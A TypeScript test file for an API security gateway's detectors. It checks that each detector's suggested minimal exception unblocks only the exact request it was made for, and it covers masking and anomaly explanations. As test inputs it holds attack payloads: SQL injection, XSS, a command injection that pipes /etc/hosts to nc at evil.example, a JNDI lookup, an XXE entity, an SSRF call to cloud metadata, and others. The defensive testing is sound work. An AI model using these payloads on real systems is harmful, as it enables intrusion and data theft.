// For each detection of requests: the exception that the explanation prints, pasted as it is, lets the blocked transaction pass,
// and neither the same attack in another place nor the same place on another endpoint. What else an explanation tells, of masked
// answers, of what is far out of the learned, and of behaviour among peers.
import { describe, expect, it } from 'vitest';
import { explanationOf } from '../../src/admin/explanation.ts';
import { explanationText } from '../../src/cli/explanation-text.ts';
import type { Baseline } from '../../src/core/baseline.ts';
import { DEFAULT_CONTRACT_ANSWERS } from '../../src/core/contract.ts';
import type { PolicyDocument } from '../../src/core/document.ts';
import type { TransactionRecord } from '../../src/core/record.ts';
import { createDefaultEngine } from '../../src/inspection/default-engine.ts';
import { runRecorded } from '../../src/inspection/run-recorded.ts';
import { smallestException } from '../../src/inspection/smallest-exception.ts';
import { compileSnapshot } from '../../src/inspection/snapshot.ts';
import { ContractTable } from '../../src/openapi/contract-table.ts';
import { bundleOf } from '../../src/policy/bundle.ts';
import { validateDocument } from '../../src/policy/validate.ts';
import { readYaml } from '../../src/yaml/read.ts';
import { customer } from '../analysis/shop.ts';
import { MINUTE, World } from '../analysis/world.ts';
import { contractOf } from '../openapi/held.ts';
import { baseline, range } from '../support/baseline-view.ts';
import { shippedPolicies } from '../support/shipped-policies.ts';
import { type CorpusRequest, get, post, postJson } from './transaction.ts';

/** Compiling the data types of all other documents takes longer than the rest of this file. */
const shipped = shippedPolicies('detectors').documents;
const token = (header: object): string =>
  `${Buffer.from(JSON.stringify(header)).toString('base64url')}.${Buffer.from('{"sub":"7"}').toString('base64url')}.`;

/** A value in one field of a JSON body, in the field beside it, and in the same one elsewhere. */
const inJson = (value: unknown, field = 'value', path = '/api/items'): CorpusRequest =>
  postJson(path, { id: 4, [field]: value });
const inBody = (value: unknown): readonly CorpusRequest[] => [
  inJson(value),
  inJson(value, 'other'),
  inJson(value, 'value', '/api/orders'),
];
const inQuery = (value: string, name = 'page'): readonly CorpusRequest[] => [
  get(`/api/items?${name}=${encodeURIComponent(value)}`),
  get(`/api/items?${name}2=${encodeURIComponent(value)}`),
  get(`/api/orders?${name}=${encodeURIComponent(value)}`),
];
const withHeader = (name: string, value: string): readonly CorpusRequest[] => [
  get('/api/items', { [name]: value }),
  get('/api/orders', { [name]: value }),
];

/** `answer`: text of an answer with status 200, `type` its media type. */
type Explained = CorpusRequest & { readonly answer?: string; readonly type?: string };

const PARCEL = `{ type: object, properties: { weight: { type: number }, size: { type: number }, role: { type: string, readOnly: true } } }`;
const POSTED = `{ post: { requestBody: { content: { application/json: { schema: ${PARCEL} } } }, responses: {} } }`;
const CONTRACTS = new ContractTable(
  [
    {
      ...contractOf(`openapi: 3.1.0
info: { title: Post, version: "1" }
paths: { /api/parcels: ${POSTED}, /api/letters: ${POSTED} }`),
      route: 'default',
    },
  ],
  () => ({ ...DEFAULT_CONTRACT_ANSWERS, unknownPaths: 'off' }),
);

/** The blocked request, then neighbours that stay blocked. */
const ROWS: Readonly<Record<string, readonly Explained[]>> = {
  'injection-sql': inBody("x' UNION SELECT name, secret FROM accounts-- "),
  xss: inBody('<svg onload=alert(1)>'),
  'injection-command': inBody('127.0.0.1; cat /etc/hosts | nc evil.example 4444'),
  'injection-code': inBody(`$${'{jndi:ldap://evil.example/a}'}`),
  'injection-template': inBody('{{7*7}}'),
  'path-traversal': inQuery('../../../../srv/secret.bin'),
  'file-inclusion': inQuery('php://filter/convert.base64-encode/resource=index', 'file'),
  ssrf: inBody('http://169.254.169.254/latest/meta-data/'),
  xxe: inBody('<!DOCTYPE r [<!ENTITY x SYSTEM "http://evil.example/x">]><r>&x;</r>'),
  'injection-ldap': inBody('*)(uid=*))(|(uid=*'),
  'injection-xpath': inBody("'] | //user/*[contains(*,'"),
  'injection-nosql': [
    postJson('/api/login', { user: 'ann', password: { $ne: '' } }),
    postJson('/api/login', { user: { $ne: '' }, password: 'x' }),
    postJson('/api/sessions', { user: 'ann', password: { $ne: '' } }),
  ],
  'injection-crlf': inQuery('en\r\nSet-Cookie: sid=1'),
  'injection-mail': inQuery('a@b.example\r\nBcc: c@d.example', 'mail'),
  'injection-ssi': inBody('<!--#exec cmd="ls" -->'),
  'prototype-pollution': [
    post('/api/items', 'application/json', '{"a":{"__proto__":{"b":1}}}'),
    post('/api/items', 'application/json', '{"c":{"__proto__":{"b":1}}}'),
    post('/api/orders', 'application/json', '{"a":{"__proto__":{"b":1}}}'),
  ],
  'jwt-tampering': withHeader('authorization', `Bearer ${token({ alg: 'none' })}`),
  'schema-violation': [
    postJson('/api/parcels', { weight: 'heavy' }),
    postJson('/api/parcels', { weight: 1, size: 'large' }),
    postJson('/api/letters', { weight: 'heavy' }),
  ],
  'mass-assignment': [
    postJson('/api/parcels', { weight: 1, role: 'admin' }),
    postJson('/api/letters', { weight: 1, role: 'admin' }),
  ],
  'web-shell-response': [
    { ...get('/api/ping'), answer: 'uid=33(www-data) gid=33(www-data) groups=33(www-data)\n' },
    { ...get('/api/pong'), answer: 'uid=33(www-data) gid=33(www-data) groups=33(www-data)\n' },
  ],
  'scanner-signature': withHeader('user-agent', 'sqlmap/1.7#stable (https://sqlmap.org)'),
  'graphql-abuse': ['/graphql', '/v2/graphql'].map((path) =>
    postJson(path, { query: `{${'a{'.repeat(40)}id${'}'.repeat(41)}` }),
  ),
};

/** Of what is found in a field; the depth of a GraphQL query and the like have none. */
const POINTER = /^(?:\/\S+)?$/;
const bundleWith = (operator: readonly PolicyDocument[]) => bundleOf(shipped, operator).bundle;
const VERSION = bundleWith([]).version;

describe('the smallest exception', () => {
  const before = engineWith([]);
  const explained = Object.entries(ROWS).map(([detection, [blocked, ...neighbours]], i) => {
    const record = { ...before(blocked!), id: `tx-${i}` };
    const yaml = smallestException(record.findings, record.endpoint, record.id);
    const explanation = explanationOf(record, bundleWith([]), undefined, []);
    return { detection, blocked: blocked!, neighbours, explanation, action: record.action, yaml };
  });
  // All of them at once: each has an endpoint, a place and a detection of its own, and the neighbours have none.
  const after = engineWith(explained.flatMap(({ yaml }) => documentsOf(yaml)));

  it('is tried for every detector that blocks as shipped', () => {
    const blocking = shipped.flatMap((one) => (one.kind === 'detector' && one.action === 'block' ? [one.id] : []));
    expect(Object.keys(ROWS)).toEqual(expect.arrayContaining(blocking));
    expect(blocking.length).toBeGreaterThanOrEqual(20);
  });

  it.each(explained.map((row) => [row.detection, row] as const))(
    'for %s lets its transaction pass and no neighbour',
    (detection, { blocked, neighbours, explanation, action, yaml }) => {
      expect(action).toBe('block');
      const explained = explanation.findings.find((finding) => finding.detection === detection);
      expect(explanation).toMatchObject({
        rule: 'finding-blocks',
        action: 'block',
        policyVersion: VERSION,
        liveVersion: VERSION,
      });
      expect(explained).toMatchObject({
        policy: { kind: 'detector', id: detection },
        source: expect.stringMatching(new RegExp(`detectors/${detection}\\.yaml:[1-9]\\d*$`)),
        what: expect.stringMatching(/\w+ \w+/),
        isFromOtherVersion: false,
      });
      expect(explained!.pointer, explained!.what).toMatch(POINTER);
      expect(explanation.smallestException).toBe(yaml);
      expect(after(blocked).action, yaml).not.toBe('block');
      expect(neighbours.length).toBeGreaterThan(0);
      for (const neighbour of neighbours) expect(after(neighbour).action, yaml).toBe('block');
    },
  );
});

describe('an explanation', () => {
  const MASKS = documentsOf(`kind: data-type
id: badge
title: Badge number
tags: [sensitive]
severity: medium
patterns: ['BDG-[0-9]{6}']
---
kind: data-policy
id: hide-badges
description: Badge numbers stay inside.
match: { direction: response, dataTypes: [badge] }
action: mask
`);
  const people = (path: string, field: string): Explained => ({
    ...get(path),
    answer: JSON.stringify({ name: 'Ann', [field]: 'BDG-482913' }),
    type: 'application/json',
  });

  it('of a masked answer names the policy, its line and the field, and the exception shows the field again, and no other', () => {
    const record = engineWith(MASKS)(people('/api/people', 'badge'));
    const explanation = explanationOf(record, bundleWith(MASKS), undefined, []);
    expect(explanation).toMatchObject({ rule: 'data-masked', action: 'mask', enforced: 'mask' });
    expect(explanation.findings).toMatchObject([
      {
        pointer: '/badge',
        dataType: 'badge',
        policy: { kind: 'data-policy', id: 'hide-badges' },
        purpose: 'Badge numbers stay inside.',
        source: expect.stringMatching(/pasted\.yaml:[1-9]\d*$/),
        action: 'mask',
      },
    ]);
    expect(JSON.stringify(explanation)).not.toContain('482913');
    const text = explanationText(explanation);
    expect(text).toContain('by data-policy hide-badges, pasted.yaml:');
    expect(text).toContain('Nothing blocks; sensitive values are masked.');
    const after = engineWith([...MASKS, ...documentsOf(explanation.smallestException)]);
    expect(after(people('/api/people', 'badge')).action).not.toBe('mask');
    expect(after(people('/api/people', 'second')).action).toBe('mask');
    expect(after(people('/api/guests', 'badge')).action).toBe('mask');
  });

  it('of an answer far out of what was learned has its figure against the learned one', () => {
    const endpoint = 'GET api.example.com/api/items';
    const usual = baseline({ endpoint, isPromoted: true, responseBytes: range(30_000), records: range(20) });
    const before = engineWith([], new Map([[endpoint, usual]]));
    const items = JSON.stringify(Array.from({ length: 4_000 }, (_, n) => ({ n, text: `item number ${n}` })));
    const record = before({ ...get('/api/items'), answer: items, type: 'application/json' });
    const explanation = explanationOf(record, bundleWith([]), undefined, []);
    const oversized = explanation.findings.find(({ detection }) => detection === 'oversized-response');
    expect(oversized).toMatchObject({
      comparison: { value: 4_000, threshold: 60 },
      source: expect.stringMatching(/oversized-response\.yaml:[1-9]\d*$/),
    });
    expect(explanationText(explanation)).toContain('4000 against 60 as learned or configured');
    expect(before({ ...get('/api/items'), answer: '[{"n":1}]', type: 'application/json' }).findings).toEqual([]);
  });

  it('of a transaction that is part of an incident has the figures of the callers beside', () => {
    const world = new World(11);
    for (let n = 0; n < 60; n++)
      for (let i = 0; i < 5; i++)
        for (let again = 0; again <= i % 2; again++)
          world.send(customer(n), 'GET', `/api/invoices/${1_000 + n * 5 + i}`);
    world.pass(MINUTE);
    const record = world.send(customer(3), 'GET', '/api/invoices/1200');
    const explanation = explanationOf(record, bundleWith([]), undefined, world.incidents());
    expect(explanation.incidents).toMatchObject([
      { detection: 'bola-ownership', position: 'trigger', figures: { threshold: expect.any(Number) } },
    ]);
    const { peers } = explanation.incidents[0]!.figures;
    expect(peers).toBeGreaterThan(50);
    expect(explanationText(explanation)).toMatch(new RegExp(`threshold \\d+.*peers ${peers}`));
  });
});

function documentsOf(yaml: string): PolicyDocument[] {
  const { documents, faults } = readYaml(yaml, 'pasted.yaml');
  expect(faults).toEqual([]);
  return documents.map((document) => {
    const validated = validateDocument(document, 'pasted.yaml', false);
    if ('fault' in validated) throw new Error(validated.fault.message);
    return validated.document;
  });
}

function engineWith(
  operator: readonly PolicyDocument[],
  baselines: ReadonlyMap<string, Baseline> = new Map(),
): (request: Explained) => TransactionRecord {
  let record: TransactionRecord | undefined;
  const engine = createDefaultEngine(
    { ...compileSnapshot(bundleWith(operator), []), contracts: CONTRACTS, baselines },
    'enforce',
    (made) => {
      record = made;
    },
  );
  return (request) => {
    runRecorded(engine, 'tx-1', {
      at: Date.UTC(2027, 0, 1),
      clientAddress: '198.51.100.7',
      request: {
        method: request.method,
        url: request.url,
        rawHeaders: Object.entries({ host: 'api.example.com', ...request.headers }).flat(),
        body: request.body,
        isDecoded: false,
      },
      response:
        request.answer === undefined
          ? undefined
          : {
              status: 200,
              rawHeaders: ['content-type', request.type ?? 'text/plain'],
              body: Buffer.from(request.answer),
              isDecoded: true,
            },
    });
    return record!;
  };
}
